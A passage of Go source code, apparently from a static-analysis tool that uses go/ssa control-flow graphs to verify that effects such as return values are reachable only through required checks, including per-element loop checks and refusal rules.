			ret, isRet := b.Instrs[len(b.Instrs)-1].(*ssa.Return)
			if !isRet {
				continue
			}
			n++
			if p.errStateAt(ret.Results[idx], b, depth) != stNonNil {
				ok = false
				break
			}
		}
		if n == 0 {
			ok = false
		}
	}
	if ok {
		nonNilMemo[f] = 1
	} else {
		nonNilMemo[f] = 2
	}
	return ok
}

// returnSites enumerates returns whose idx-th result satisfies isEffect. Phi-selected values are split per incoming
// edge (recursively, bounded): the effect then is "these edges are taken in this order and the return is reached".
func (g *gateRun) returnSites(idxOf func(*types.Signature) int, isEffect func(v ssa.Value, at *ssa.BasicBlock, via *Edge) bool) []effSite {
	idx := idxOf(g.fn.Signature)
	var out []effSite
	if idx < 0 {
		return nil
	}
	for _, b := range g.fn.Blocks {
		ret, ok := b.Instrs[len(b.Instrs)-1].(*ssa.Return)
		if !ok || idx >= len(ret.Results) {
			continue
		}
		pos := ret.Pos()
		var expand func(v ssa.Value, at *ssa.BasicBlock, suffix []Edge, depth int, seen map[*ssa.Phi]bool)
		expand = func(v ssa.Value, at *ssa.BasicBlock, suffix []Edge, depth int, seen map[*ssa.Phi]bool) {
			if phi, ok := v.(*ssa.Phi); ok && depth < 5 && !seen[phi] {
				seen[phi] = true
				pb := phi.Block()
				for i, e := range phi.Edges {
					pred := pb.Preds[i]
					edge := Edge{pred, succIndex(pred, pb)}
					expand(e, pred, append([]Edge{edge}, suffix...), depth+1, seen)
				}
				delete(seen, phi)
				return
			}
			var via *Edge
			if len(suffix) > 0 {
				via = &suffix[0]
			}
			if !isEffect(v, at, via) {
				return
			}
			site := effSite{Block: b, Instr: ret, Pos: pos, What: "return"}
			if len(suffix) > 0 {
				seq := append([]Edge{}, suffix...)
				site.Seq = seq
				site.Via = &seq[len(seq)-1]
				site.What = "return (value selected on the path through " + g.p.Pos(blockPos(seq[0].From)) + ")"
			}
			out = append(out, site)
		}
		expand(unspill(ret.Results[idx]), b, nil, 0, map[*ssa.Phi]bool{})
	}
	return out
}

// unspill resolves the defer-spilled return idiom: in a function with defers go/ssa stores each result into a local
// cell, runs the defers and returns a load of the cell. When no closure captures the cell (so no deferred function
// can change it), the value returned is the value stored last in the same block.
func Unspill(v ssa.Value) ssa.Value { return unspill(v) }

func unspill(v ssa.Value) ssa.Value {
	ld, ok := v.(*ssa.UnOp)
	if !ok || ld.Op != token.MUL {
		return v
	}
	cell, ok := ld.X.(*ssa.Alloc)
	if !ok {
		return v
	}
	for _, ref := range *cell.Referrers() {
		if _, isMC := ref.(*ssa.MakeClosure); isMC {
			return v
		}
	}
	b := ld.Block()
	var last ssa.Value
	for _, in := range b.Instrs {
		if in == ssa.Instruction(ld) {
			break
		}
		if st, ok := in.(*ssa.Store); ok && st.Addr == ssa.Value(cell) {
			last = st.Val
		}
	}
	if last == nil {
		return v
	}
	return last
}

func succIndex(from, to *ssa.BasicBlock) int {
	for i, s := range from.Succs {
		if s == to {
			return i
		}
	}
	return 0
}

// findPassEdges locates the check sites and their pass edges.
func (g *gateRun) findPassEdges(c Check, into EdgeSet) (sites int, tested int, complaints []string) {
	fn := g.fn
	if c.Call != nil {
		calls := Calls(fn, *c.Call)
		for _, ci := range calls {
			if c.Filter != nil && !c.Filter(ci) {
				continue
			}
			sites++
			if c.ArgOK != nil {
				if msg := c.ArgOK(ci); msg != "" {
					complaints = append(complaints, fmt.Sprintf("%s: %s", g.p.Pos(ci.Pos()), msg))
					continue
				}
			}
			// a binary check applied to one value twice (x.Equals(x), f(x, x)) decides nothing
			if as := ci.Common().Args; len(as) == 2 && SameExpr(as[0], as[1], 4) {
				complaints = append(complaints, fmt.Sprintf("%s: vacuous check: %s compares a value with itself (%s)", g.p.Pos(ci.Pos()), c.Desc, AccessPath(as[0], 0)))
				continue
			}
			val, ok := ci.(*ssa.Call)
			if !ok {
				continue // go/defer: result unused
			}
			g.checkCalls = append(g.checkCalls, ci)
			var tv ssa.Value = val
			res := val.Common().Signature().Results()
			if res.Len() > 1 {
				idx := c.Result
				if idx < 0 {
					idx = res.Len() - 1
				}
				tv = nil
				for _, ref := range *val.Referrers() {
					if ex, ok := ref.(*ssa.Extract); ok && ex.Index == idx {
						tv = ex
					}
				}
				if tv == nil {
					if c.EachSiteTested {
						complaints = append(complaints, fmt.Sprintf("%s: the result of %s is discarded", g.p.Pos(ci.Pos()), c.Desc))
					}
					continue // result discarded: no pass edge; effect will be reachable
				}
			}
			g.checkVals[tv] = c.Pass
			n := g.edgesTesting(tv, c.Pass, into)
			tested += n
			if c.EachSiteTested && n == 0 && !valueReturned(tv) {
				complaints = append(complaints, fmt.Sprintf("%s: the result of %s is not tested by any branch", g.p.Pos(ci.Pos()), c.Desc))
			}
		}
	}
	if g.lift < 2 && !c.NoLift {
		// wrapper lifting: a call of a module function H counts as the check when H itself succeeds only through the check
		// (every success return of H — or every `return true` — is gated by it). This keeps the rule stable when a block of
		// checks is extracted into a helper.
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok || c.Call != nil && c.Call.M(call.Common()) {
					continue
				}
				h := call.Common().StaticCallee()
				if h == nil || h == fn || len(h.Blocks) == 0 || !g.p.InModule(h) {
					continue
				}
				// examine the helper with its parameters standing for this site's arguments
				var bound []*ssa.Parameter
				if len(h.Params) == len(call.Common().Args) {
					for i, prm := range h.Params {
						if _, dup := paramSubst[prm]; !dup {
							paramSubst[prm] = call.Common().Args[i]
							bound = append(bound, prm)
						}
					}
				}
				pol, ok := g.p.impliesCheck(h, c, g.g, g.lift+1, call)
				for _, prm := range bound {
					delete(paramSubst, prm)
				}
				if !ok {
					continue
				}
				if g.g.ForEach {
					g.liftedForEach++
				}
				sites++
				g.lifted = append(g.lifted, g.p.FuncName(h))
				g.checkCalls = append(g.checkCalls, call)
				var tv ssa.Value = call
				res := call.Common().Signature().Results()
				if res.Len() > 1 {
					tv = nil
					for _, ref := range *call.Referrers() {
						if ex, ok := ref.(*ssa.Extract); ok && ex.Index == res.Len()-1 {
							tv = ex
						}
					}
					if tv == nil {
						continue
					}
				}
				g.checkVals[tv] = pol
				tested += g.edgesTesting(tv, pol, into)
			}
		}
	}
	if c.Values != nil {
		for _, tv := range c.Values(fn) {
			sites++
			g.checkVals[tv] = c.Pass
			tested += g.edgesTesting(tv, c.Pass, into)
		}
	}
	if c.Cmp != nil {
		// comparisons used as values (e.g. `return a == b`): register them so a tail return counts as the gate
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				bin, ok := in.(*ssa.BinOp)
				if !ok {
					continue
				}
				holds, ok := c.Cmp.match(bin)
				if !ok {
					continue
				}
				usedInIf := false
				for _, ref := range *bin.Referrers() {
					if _, isIf := ref.(*ssa.If); isIf {
						usedInIf = true
					}
				}
				if !usedInIf {
					sites++
				}
				if holds == c.Cmp.PassWhen {
					g.checkVals[bin] = IsTrue
				} else {
					g.checkVals[bin] = IsFalse
				}
			}
		}
		// slices.Contains(xs, y) is the equality y == (some element of xs): the same check as a hand-written loop
		if c.Cmp.Op == token.EQL {
			for _, b := range fn.Blocks {
				for _, in := range b.Instrs {
					call, ok := in.(*ssa.Call)
					if !ok {
						continue
					}
					f := call.Common().StaticCallee()
					if f == nil || len(call.Common().Args) != 2 {
						continue
					}
					if o := f.Origin(); o != nil {
						f = o
					}
					if f.Pkg == nil || f.Pkg.Pkg.Path() != "slices" || f.Name() != "Contains" {
						continue
					}
					xs, y := call.Common().Args[0], call.Common().Args[1]
					m := func(p VPat, v ssa.Value) bool { return p.M(v) || p.M(stripConv(v)) }
					if !(m(c.Cmp.L, y) && m(c.Cmp.R, xs) || m(c.Cmp.R, y) && m(c.Cmp.L, xs)) {
						continue
					}
					sites++
					pol := IsTrue
					if !c.Cmp.PassWhen {
						pol = IsFalse
					}
					g.checkVals[call] = pol
					tested += g.edgesTesting(call, pol, into)
				}
			}
		}
		for _, b := range fn.Blocks {
			i := ifOf(b)
			if i == nil {
				continue
			}
			atom, neg := condAtom(i.Cond)
			bin, ok := atom.(*ssa.BinOp)
			if !ok {
				// `x := a || cmp; if x`: the If tests a phi one of whose incoming values is the comparison
				if phi, isPhi := atom.(*ssa.Phi); isPhi {
					for _, e := range phi.Edges {
						if pb, isBin := e.(*ssa.BinOp); isBin {
							if _, m := c.Cmp.match(pb); m {
								bin, ok = pb, true
							}
						}
					}
				}
			}
			if !ok {
				continue
			}
			holds, ok := c.Cmp.match(bin) // holds: (L Op R) is true when bin is true?
			if !ok {
				continue
			}
			sites++
			tested++
			if SameExpr(bin.X, bin.Y, 4) {
				complaints = append(complaints, fmt.Sprintf("%s: vacuous check: %s compares a value with itself (%s)", g.p.Pos(bin.Pos()), c.Desc, AccessPath(bin.X, 0)))
				continue
			}
			// bin true => (L op R) == holds ; cond true => bin == !neg
			// pass edge: (L op R) == PassWhen
			condTrueMeans := holds != neg // value of (L op R) when cond evaluates true
			if condTrueMeans == c.Cmp.PassWhen {
				into[Edge{b, 0}] = true
			} else {
				into[Edge{b, 1}] = true
			}
		}
	}
	return
}

// match reports whether bin is a spelling of (L Op R) [holds=true] or of its negation [holds=false].
func (c *CmpPat) match(bin *ssa.BinOp) (holds bool, ok bool) {
	type form struct {
		op    token.Token
		swap  bool
		holds bool
	}
	var forms []form
	switch c.Op {
	case token.EQL:
		forms = []form{{token.EQL, false, true}, {token.EQL, true, true}, {token.NEQ, false, false}, {token.NEQ, true, false}}
	case token.LSS: // L < R  ==  R > L ; negation: L >= R == R <= L
		forms = []form{{token.LSS, false, true}, {token.GTR, true, true}, {token.GEQ, false, false}, {token.LEQ, true, false}}
	case token.LEQ: // L <= R == R >= L ; negation L > R == R < L
		forms = []form{{token.LEQ, false, true}, {token.GEQ, true, true}, {token.GTR, false, false}, {token.LSS, true, false}}
	}
	for _, f := range forms {
		if bin.Op != f.op {
			continue
		}
		x, y := bin.X, bin.Y
		if f.swap {
			x, y = y, x
		}
		if c.L.M(x) && c.R.M(y) {
			return f.holds, true
		}
	}
	// lengths are non-negative: len(x) == 0 is also spelled len(x) <= 0, len(x) < 1, 0 >= len(x), 1 > len(x);
	// len(x) != 0 is len(x) > 0, len(x) >= 1, 0 < len(x), 1 <= len(x). Both the pattern and the code may use any spelling.
	isConstPat := func(vp VPat, k int64) bool {
		return vp.Desc == "const" && vp.M(ssa.NewConst(constant.MakeInt64(k), types.Typ[types.Int])) && !vp.M(ssa.NewConst(constant.MakeInt64(k+7), types.Typ[types.Int]))
	}
	// what does the PATTERN say when it holds: "length is zero" (true) / "length is non-zero" (false); lenPat is its length operand
	var lenPat *VPat
	patZero := false
	switch {
	case c.Op == token.EQL && isConstPat(c.R, 0): // L == 0
		lenPat, patZero = &c.L, true
	case c.Op == token.EQL && isConstPat(c.L, 0):
		lenPat, patZero = &c.R, true
	case c.Op == token.LEQ && isConstPat(c.R, 0): // L <= 0
		lenPat, patZero = &c.L, true
	case c.Op == token.LSS && isConstPat(c.R, 1): // L < 1
		lenPat, patZero = &c.L, true
	case c.Op == token.LSS && isConstPat(c.L, 0): // 0 < R
		lenPat, patZero = &c.R, false
	case c.Op == token.LEQ && isConstPat(c.L, 1): // 1 <= R
		lenPat, patZero = &c.R, false
	}
	// a string is empty: s == "" is also spelled len(s) == 0 (and the other length spellings)
	isEmptyStrPat := func(vp VPat) bool {
		return vp.M(ssa.NewConst(constant.MakeString(""), types.Typ[types.String])) && !vp.M(ssa.NewConst(constant.MakeString("x"), types.Typ[types.String]))
	}
	if lenPat == nil && c.Op == token.EQL && (isEmptyStrPat(c.R) || isEmptyStrPat(c.L)) {
		strPat := c.L
		if isEmptyStrPat(c.L) {
			strPat = c.R
		}
		lenPat = &VPat{Desc: "len(" + strPat.Desc + ")", M: func(v ssa.Value) bool {
			call, ok := stripConv(v).(*ssa.Call)
			if !ok || len(call.Call.Args) != 1 {
				return false
			}
			b, isB := call.Call.Value.(*ssa.Builtin)
			return isB && b.Name() == "len" && (strPat.M(call.Call.Args[0]) || strPat.M(stripConv(call.Call.Args[0])))
		}}
		patZero = true
	}
	if lenPat != nil {
		isLen := func(v ssa.Value) bool {
			call, ok := stripConv(v).(*ssa.Call)
			if !ok {
				return false
			}
			b, ok := call.Call.Value.(*ssa.Builtin)
			return ok && b.Name() == "len"
		}
		// what does the CODE's comparison say when true: normalised as `len OP k`
		try := func(lenSide, constSide ssa.Value, op token.Token) (bool, bool) {
			k, isC := ConstInt(constSide)
			if !isC || !isLen(lenSide) || !lenPat.M(lenSide) {
				return false, false
			}
			switch {
			case op == token.EQL && k == 0, op == token.LEQ && k == 0, op == token.LSS && k == 1:
				return patZero, true // code says "zero" when true
			case op == token.NEQ && k == 0, op == token.GTR && k == 0, op == token.GEQ && k == 1:
				return !patZero, true // code says "non-zero" when true
			}
			return false, false
		}
		if h, ok := try(bin.X, bin.Y, bin.Op); ok {
			return h, true
		}
		// constant on the left: k OP len  ==  len OP' k
		flip := map[token.Token]token.Token{token.LEQ: token.GEQ, token.LSS: token.GTR, token.GTR: token.LSS, token.GEQ: token.LEQ, token.EQL: token.EQL, token.NEQ: token.NEQ}
		if op, known := flip[bin.Op]; known {
			if h, ok := try(bin.Y, bin.X, op); ok {
				return h, true
			}
		}
	}
	return false, false
}

// edgesTesting adds the pass edges of every If that tests tv.
func (g *gateRun) edgesTesting(tv ssa.Value, pass Polarity, into EdgeSet) int {
	n := 0
	for _, b := range g.fn.Blocks {
		i := ifOf(b)
		if i == nil {
			continue
		}
		switch pass {
		case ErrNil, NonNil:
			v, nilWhenTrue, ok := nilTest(i.Cond)
			if !ok {
				continue
			}
			match, preds := g.testsValue(v, tv, b)
			if !match {
				continue
			}
			wantNil := pass == ErrNil
			if nilWhenTrue == wantNil {
				g.addPass(Edge{b, 0}, preds, into)
			} else {
				g.addPass(Edge{b, 1}, preds, into)
			}
			n++
		case IsTrue, IsFalse:
			atom, neg := condAtom(i.Cond)
			if !sameValue(atom, tv, 4) {
				// also accept comparisons with constant bool: v == false
				if bin, ok := atom.(*ssa.BinOp); ok && (bin.Op == token.EQL || bin.Op == token.NEQ) {
					var other ssa.Value
					if sameValue(bin.X, tv, 4) {
						other = bin.Y
					} else if sameValue(bin.Y, tv, 4) {
						other = bin.X
					}
					if cb, isb := ConstBool(other); other != nil && isb {
						// atom true means tv == cb (EQL) or tv != cb (NEQ)
						tvWhenAtomTrue := cb == (bin.Op == token.EQL)
						tvWhenCondTrue := tvWhenAtomTrue != neg
						want := pass == IsTrue
						if tvWhenCondTrue == want {
							into[Edge{b, 0}] = true
						} else {
							into[Edge{b, 1}] = true
						}
						n++
					}
				}
				continue
			}
			match, preds := g.testsValue(atom, tv, b)
			if !match {
				continue
			}
			tvWhenCondTrue := !neg
			want := pass == IsTrue
			if tvWhenCondTrue == want {
				g.addPass(Edge{b, 0}, preds, into)
			} else {
				g.addPass(Edge{b, 1}, preds, into)
			}
			n++
		}
	}
	return n
}

// tested: does the branch condition operand v (tested in block b) test the check value tv — always (preds == nil), or only
// when b is entered from the returned predecessors (v is a phi of b merging tv with other values)?
func (g *gateRun) testsValue(v, tv ssa.Value, b *ssa.BasicBlock) (bool, map[*ssa.BasicBlock]bool) {
	if !sameValue(v, tv, 4) {
		return false, nil
	}
	if !g.pathSensitive {
		return true, nil
	}
	if ld, isLoad := v.(*ssa.UnOp); isLoad && ld.Op == token.MUL && v != tv {
		if cell, isAlloc := ld.X.(*ssa.Alloc); isAlloc {
			return g.loadIsOf(ld, cell, tv), nil
		}
	}
	phi, ok := v.(*ssa.Phi)
	if !ok {
		return true, nil
	}
	var yes, no []int
	for i, e := range phi.Edges {
		if sameValue(e, tv, 3) {
			yes = append(yes, i)
		} else {
			no = append(no, i)
		}
	}
	if len(no) == 0 {
		return true, nil
	}
	if phi.Block() != b || len(b.Preds) != len(phi.Edges) {
		return false, nil // cannot attribute the test to the check's paths: not a pass
	}
	preds := map[*ssa.BasicBlock]bool{}
	for _, i := range yes {
		preds[b.Preds[i]] = true
	}
	for _, i := range no {
		delete(preds, b.Preds[i])
	}
	if len(preds) == 0 {
		return false, nil
	}
	return true, preds
}

// loadIsOf: the load ld of the local variable cell certainly reads the check value tv: a store of tv into the cell (in the
// load's function) dominates the load, and no store of anything else can execute between that store and the load. (A
// variable that is assigned the check's result on one branch only, or re-assigned on a path to the test, is not a test of
// the check on every path.) Stores made by closures are not ordered by this test and are left out.
func (g *gateRun) loadIsOf(ld *ssa.UnOp, cell *ssa.Alloc, tv ssa.Value) bool {
	fn := ld.Parent()
	var match, other []*ssa.Store
	for _, st := range storesTo(cell) {
		if st.Parent() != fn {
			continue
		}
		if sameValue(st.Val, tv, 3) {
			match = append(match, st)
		} else {
			other = append(other, st)
		}
	}
	if len(match) == 0 {
		return true // tv reaches the cell through a closure or a conversion this test does not order: keep the old reading
	}
	for _, s := range match {
		if !InstrDominates(s, ld) {
			continue
		}
		clean := true
		for _, o := range other {
			if !storeBetween(s, o, ld) {
				continue
			}
			clean = false
		}
		if clean {
			return true
		}
	}
	return false
}

// storeBetween: can o execute after s and before ld (s dominates ld)?
func storeBetween(s, o *ssa.Store, ld ssa.Instruction) bool {
	pos := func(in ssa.Instruction) int {
		for i, x := range in.Block().Instrs {
			if x == in {
				return i
			}
		}
		return -1
	}
	sb, ob, lb := s.Block(), o.Block(), ld.Block()
	// o after s?
	afterS := false
	if ob == sb {
		afterS = pos(o) > pos(s)
	}
	if !afterS {
		for _, succ := range sb.Succs {
			if Reach(succ, nil, nil)[ob] {
				afterS = true
			}
		}
	}
	if !afterS {
		return false
	}
	// ld reachable from o without executing s again?
	if ob == lb && pos(o) < pos(ld) {
		return true
	}
	blocked := map[*ssa.BasicBlock]bool{}
	if sb != ob {
		blocked[sb] = true
	}
	for _, succ := range ob.Succs {
		if blocked[succ] {
			continue
		}
		if Reach(succ, nil, blocked)[lb] {
			return true
		}
	}
	return false
}

func (g *gateRun) addPass(e Edge, preds map[*ssa.BasicBlock]bool, into EdgeSet) {
	if preds == nil {
		into[e] = true
		return
	}
	if g.cond == nil {
		g.cond = map[Edge]map[*ssa.BasicBlock]bool{}
	}
	if g.cond[e] == nil {
		g.cond[e] = map[*ssa.BasicBlock]bool{}
	}
	for p := range preds {
		g.cond[e][p] = true
	}
}

func (g *gateRun) assumeEdges(into EdgeSet) {
	if len(g.g.Assume) == 0 {
		return
	}
	for _, b := range g.fn.Blocks {
		i := ifOf(b)
		if i == nil {
			continue
		}
		atom, neg := condAtom(i.Cond)
		name := ""
		switch x := atom.(type) {
		case *ssa.Parameter:
			name = BaselineParamName(x)
		case *ssa.FreeVar:
			name = BaselineVarName(x.Name(), x.Parent())
		case *ssa.UnOp:
			if x.Op == token.MUL {
				if fv, ok := x.X.(*ssa.FreeVar); ok {
					name = BaselineVarName(fv.Name(), fv.Parent())
				}
			}
		}
		val, ok := g.g.Assume[name]
		if !ok {
			continue
		}
		condVal := val != neg
		if condVal {
			into[Edge{b, 1}] = true
		} else {
			into[Edge{b, 0}] = true
		}
	}
}

// GateResult is the decision of one gate.
type GateResult struct {
	CheckSites, Tested, EffectSites int
	Violations                      []string
	Complaints                      []string
	Pos                             token.Pos
}

// RunGate decides one gate obligation.
func (p *Prog) RunGate(g *Gate) GateResult {
	run := &gateRun{p: p, fn: g.Fn, g: g, checkVals: map[ssa.Value]Polarity{}, passEdges: EdgeSet{}, lift: g.lift, pathSensitive: true}
	var res GateResult
	res.Pos = g.Fn.Pos()
	res.CheckSites, res.Tested, res.Complaints = run.findPassEdges(g.Check, run.passEdges)
	for _, alt := range g.Alt {
		run.findPassEdges(alt, run.passEdges)
	}
	// an edge that is an unconditional pass edge for one check needs no conditional entry
	for e := range run.cond {
		if run.passEdges[e] {
			delete(run.cond, e)
		}
	}
	saved := condRemoved
	condRemoved = run.cond
	defer func() { condRemoved = saved }()
	removed := EdgeSet{}
	for e := range run.passEdges {
		removed[e] = true
	}
	run.assumeEdges(removed)
	var effects []effSite
	if !g.LoopOnly {
		effects = g.Effect.Sites(run)
	}
	res.EffectSites = len(effects) + run.tails
	if g.LoopOnly {
		res.EffectSites = 1
	}
	if len(g.Fn.Blocks) == 0 {
		return res
	}
	entry := g.Fn.Blocks[0]

	blocked := map[*ssa.BasicBlock]bool{}
	var loops []*Loop
	if g.ForEach {
		all := Loops(g.Fn)
		seen := map[*Loop]bool{}
		for e := range run.passEdges {
			if l := InnermostLoop(all, e.From); l != nil && !seen[l] {
				seen[l] = true
				loops = append(loops, l)
				blocked[l.Header] = true
				// nested collections (`for _, xs := range xss { for _, x := range xs { check(x) } }`): exhausting an
				// enclosing loop is the same kind of exit as exhausting the innermost one
				for _, outer := range all {
					if outer != l && outer.Body[l.Header] {
						blocked[outer.Header] = true
					}
				}
			}
		}
		if len(loops) == 0 && res.Tested > 0 && run.liftedForEach == 0 {
			res.Violations = append(res.Violations, "ForEach check is not inside a loop")
		}
		if res.CheckSites > 0 && res.Tested == 0 && run.tails == 0 {
			// e.g. `if err != nil { continue }` at the end of a loop body: both branches continue, go/ssa drops the branch,
			// and the check decides nothing
			res.Violations = append(res.Violations, fmt.Sprintf("the result of [%s] is computed but no branch tests it: every element passes", g.Check.Desc))
		}
	}
	reach := Reach(entry, removed, blocked)
	effectHitFrom := func(start *ssa.BasicBlock, r map[*ssa.BasicBlock]bool, e effSite, rem EdgeSet, blk map[*ssa.BasicBlock]bool) bool {
		if len(e.Seq) == 0 {
			return r[e.Block]
		}
		cur := r
		for i, ed := range e.Seq {
			if !cur[ed.From] || rem[ed] || blk[ed.To()] {
				return false
			}
			if i == len(e.Seq)-1 {
				// the return block must be reachable from the last edge's target
				return Reach(ed.To(), rem, blk)[e.Block]
			}
			cur = Reach(ed.To(), rem, blk)
		}
		return false
	}
	effectHit := func(r map[*ssa.BasicBlock]bool, e effSite) bool {
		return effectHitFrom(entry, r, e, removed, blocked)
	}
	for _, e := range effects {
		if effectHit(reach, e) {
			goal := e.Block
			if len(e.Seq) > 0 {
				goal = e.Seq[0].From
			}
			path := PathTo(entry, goal, removed, blocked)
			res.Violations = append(res.Violations, fmt.Sprintf("%s at %s is reachable without passing [%s]; path: %s", e.What, p.Pos(e.Pos), g.Check.Desc, p.PathString(path)))
		}
	}
	// ForEach: inside each loop, from the body entries, neither the header (next iteration) nor an effect may be reached
	// without a pass edge (or an allowed skip edge).
	for _, l := range loops {
		skipOK := EdgeSet{}
		for _, sc := range g.Skip {
			tmp := &gateRun{p: p, fn: g.Fn, g: g, checkVals: map[ssa.Value]Polarity{}, passEdges: EdgeSet{}}
			tmp.findPassEdges(sc, skipOK)
		}
		rem2 := EdgeSet{}
		for e := range removed {
			rem2[e] = true
		}
		for e := range skipOK {
			rem2[e] = true
		}
		hb := map[*ssa.BasicBlock]bool{l.Header: true}
		for i, s := range l.Header.Succs {
			if !l.Body[s] || s == l.Header || rem2[Edge{l.Header, i}] {
				continue
			}
			r := Reach(s, rem2, hb)
			// arrival at header?
			for b := range r {
				for j, t := range b.Succs {
					if t == l.Header && !rem2[Edge{b, j}] {
						path := PathTo(s, b, rem2, hb)
						res.Violations = append(res.Violations, fmt.Sprintf("loop at %s: next iteration reachable without passing [%s]; path: %s", p.Pos(blockPos(l.Header)), g.Check.Desc, p.PathString(path)))
					}
				}
			}
			for _, e := range effects {
				if effectHitFrom(s, r, e, rem2, hb) {
					res.Violations = append(res.Violations, fmt.Sprintf("loop at %s: %s at %s reachable from the loop body without passing [%s]", p.Pos(blockPos(l.Header)), e.What, p.Pos(e.Pos), g.Check.Desc))
				}
			}
		}
		if g.AllowEarlyExit {
			continue
		}
		// "for each element" means every element: (a) the only way from the loop to the effect is the exhaustion of the
		// range (the header's own exit) — a break/goto out of the body that can still reach the effect leaves the
		// remaining elements unchecked; (b) the loop ranges over the whole collection, not over a sub-slice of it.
		hb = map[*ssa.BasicBlock]bool{l.Header: true}
		for b := range l.Body {
			if b == l.Header {
				continue
			}
			for _, s := range b.Succs {
				if l.Body[s] {
					continue
				}
				r := Reach(s, EdgeSet{}, hb)
				for _, e := range effects {
					if effectHitFrom(s, r, e, EdgeSet{}, hb) {
						res.Violations = append(res.Violations, fmt.Sprintf("loop at %s: early exit at %s leaves the loop before all elements passed [%s] and still reaches %s at %s", p.Pos(blockPos(l.Header)), p.Pos(blockPos(b)), g.Check.Desc, e.What, p.Pos(e.Pos)))
					}
				}
			}
		}
		if sl := rangedSubSlice(l); sl != nil {
			res.Violations = append(res.Violations, fmt.Sprintf("loop at %s ranges over a sub-slice (%s), not over the whole collection: elements outside it never pass [%s]", p.Pos(blockPos(l.Header)), AccessPath(sl, 0), g.Check.Desc))
		}
	}
	return res
}

// rangedSubSlice: if the loop is an index loop bounded by len(X[lo:hi]) with an explicit lo or hi, returns that slice value.
func rangedSubSlice(l *Loop) ssa.Value {
	i := ifOf(l.Header)
	if i == nil {
		return nil
	}
	bin, ok := i.Cond.(*ssa.BinOp)
	if !ok {
		return nil
	}
	for _, side := range []ssa.Value{bin.X, bin.Y} {
		c, ok := side.(*ssa.Call)
		if !ok {
			continue
		}
		if b, ok := c.Call.Value.(*ssa.Builtin); !ok || b.Name() != "len" || len(c.Call.Args) != 1 {
			continue
		}
		if sl, ok := c.Call.Args[0].(*ssa.Slice); ok && (sl.Low != nil || sl.High != nil) {
			if _, isArr := sl.X.Type().Underlying().(*types.Pointer); isArr {
				continue // slicing a fresh array (varargs literal), not a sub-range of a collection
			}
			return sl
		}
	}
	return nil
}

// Gate runs the gate and records the obligation.
func (r *Report) Gate(g Gate) {
	key := g.ID
	rule := fmt.Sprintf("GATE: %s only via [%s]", g.Effect.Desc, g.Check.Desc)
	if g.ForEach {
		rule += " for each element"
	}
	if g.LoopOnly {
		rule = fmt.Sprintf("GATE: the next loop iteration is reachable only via [%s]", g.Check.Desc)
	}
	if g.Fn == nil {
		r.Lost(key, rule, "anchored function not found in the program")
		return
	}
	key = g.ID + " @ " + r.P.FuncName(g.Fn)
	if len(g.Assume) > 0 {
		rule += fmt.Sprintf(" assuming %v", g.Assume)
	}
	res := r.P.RunGate(&g)
	r.Sites += res.CheckSites + res.EffectSites + res.Tested
	pos := r.P.Pos(g.Fn.Pos())
	min := g.Check.MinSite
	if min == 0 {
		min = 1
	}
	minE := g.MinEffects
	if minE == 0 {
		minE = 1
	}
	switch {
	case res.EffectSites < minE:
		r.Lost(key, rule, fmt.Sprintf("effect [%s] matched %d sites in %s (expected >= %d)", g.Effect.Desc, res.EffectSites, r.P.FuncName(g.Fn), minE))
	case len(res.Complaints) > 0:
		r.Bad(key, rule, pos, strings.Join(res.Complaints, "; "))
	case res.CheckSites < min:
		r.Bad(key, rule, pos, fmt.Sprintf("check [%s] not found in %s (%d sites, expected >= %d): the effect is ungated", g.Check.Desc, r.P.FuncName(g.Fn), res.CheckSites, min))
	case len(res.Violations) > 0:
		r.Bad(key, rule, pos, strings.Join(res.Violations, " || "))
	default:
		r.OK(key, rule, pos, fmt.Sprintf("check sites=%d, branches testing it=%d, effect sites=%d; no effect reachable with pass edges removed", res.CheckSites, res.Tested, res.EffectSites), true)
	}
}

// AssertOK: the ok result of comma-ok type assertions to a type whose string form is typ (e.g. "float64", "string").
func AssertOK(typ string) Check {
	return Check{Desc: "comma-ok type assertion to " + typ, Pass: IsTrue, Values: func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ta, ok := in.(*ssa.TypeAssert)
				if !ok || !ta.CommaOk || types.TypeString(ta.AssertedType, nil) != typ {
					continue
				}
				for _, ref := range *ta.Referrers() {
					if ex, ok := ref.(*ssa.Extract); ok && ex.Index == 1 {
						out = append(out, ex)
					}
				}
			}
		}
		return out
	}}
}

// LookupOK: the ok result (index 1) of calls matching c.
func OkCheck(c Callee) Check { return CallCheck(c, 1, IsTrue) }

var globalErrMemo = map[*ssa.Global]int{}

// globalErrNonNil: a package-level error variable that is only ever assigned non-nil values (sentinel errors).
func (p *Prog) globalErrNonNil(g *ssa.Global) bool {
	if m, ok := globalErrMemo[g]; ok {
		return m == 1
	}
	globalErrMemo[g] = 2
	pkg := g.Pkg
	if pkg == nil {
		return false
	}
	stores, ok := 0, true
	hasBodies := false
	for _, m := range pkg.Members {
		f, isF := m.(*ssa.Function)
		if !isF {
			continue
		}
		for _, fn := range WithAnons(f) {
			for _, b := range fn.Blocks {
				hasBodies = true
				for _, in := range b.Instrs {
					if st, isSt := in.(*ssa.Store); isSt && st.Addr == g {
						stores++
						if p.errStateAt(st.Val, nil, 1) != stNonNil {
							ok = false
						}
					}
				}
			}
		}
	}
	if !hasBodies {
		// dependency without syntax: accept the Err* naming convention for exported sentinel errors
		ok = len(g.Name()) > 3 && (g.Name()[:3] == "Err" || g.Name()[:3] == "err")
		stores = 1
	}
	if ok && stores > 0 {
		globalErrMemo[g] = 1
		return true
	}
	return false
}

// Refuse: whenever the condition holds (the "pass" edges of Cond are the edges on which the bad condition holds),
// the effect must be unreachable from that edge. Dual of Gate; used for "X ⇒ the function fails".
type Refuse struct {
	ID     string
	Fn     *ssa.Function
	Cond   Check
	Effect Effect // default SuccessReturn
	Min    int    // minimal number of condition edges (default 1)
	Exists bool   // only require that at least Min edges refuse (other edges on the same condition may continue)
	Assume map[string]bool
	noLift bool
}

func (r *Report) Refuse(s Refuse) {
	eff := s.Effect
	if eff.Sites == nil {
		eff = SuccessReturn()
	}
	rule := fmt.Sprintf("REFUSE: when [%s] holds, %s is unreachable", s.Cond.Desc, eff.Desc)
	if s.Fn == nil {
		r.Lost(s.ID, rule, "anchored function not found in the program")
		return
	}
	key := s.ID + " @ " + r.P.FuncName(s.Fn)
	g := &Gate{Fn: s.Fn, Check: Check{NoTail: true}, Assume: s.Assume}
